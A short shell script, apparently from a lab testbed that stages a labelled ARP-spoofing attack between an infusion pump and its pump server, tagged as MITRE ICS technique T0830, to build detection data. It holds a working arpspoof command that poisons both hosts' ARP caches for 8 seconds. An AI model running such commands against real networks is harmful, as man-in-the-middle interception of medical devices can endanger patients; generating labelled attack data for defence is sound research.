# ARP spoofing: the attacker tells pump 1 that the pump server's address is at its MAC (and
# the pump server that pump 1's is), arpspoof from dsniff, for 8 s; on SIGINT arpspoof
# re-announces the true addresses for about 10 s more (part of the labelled window).
DEFAULT_DURATION=40
attack_arp_spoof() {
  command -v arpspoof > /dev/null || { echo "arpspoof missing (dsniff, scripts/install-deps.sh)" >&2; return 1; }
  local t0 t1
  t0=$(now)
  run_in attacker arpspoof 30 timeout -s INT 8 arpspoof -i eth0 -t 10.10.2.21 -r 10.10.1.5
  t1=$(now)
  label arp_spoofing T0830 attacker "pump1 pumpsrv" "$t0" "$t1" \
    "arpspoof -t 10.10.2.21 -r 10.10.1.5: ARP replies binding both addresses to the attacker's MAC for 8 s, then re-ARPing the true ones"
}
scenario_run() {
  start_ward "$1"
  sleep 6
  attack_arp_spoof
}
